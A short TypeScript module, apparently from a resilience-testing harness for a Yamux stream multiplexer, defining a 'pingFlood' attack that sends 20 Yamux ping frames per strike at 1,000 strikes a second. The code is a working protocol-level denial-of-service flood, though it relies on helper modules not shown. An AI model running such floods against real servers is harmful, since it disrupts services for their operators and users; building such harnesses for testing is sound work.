import { FLAG, FRAME } from '../foe/foe.ts'
import { Grudge } from '../foe/grudge.ts'
import type { Attack } from '../attack.ts'

/** Twenty at a time; each is answered by twelve bytes. */
export const pingFlood: Attack = {
  row: 3,
  what: '20,000 pings of Yamux a second',
  strikesPerSecond: 1000,
  begin: target =>
    Grudge.begin(
      target,
      () => {},
      foe => {
        for (let i = 0; i < 20; i++) foe.frame(FRAME.ping, FLAG.syn, 0, i)
      }
    )
}
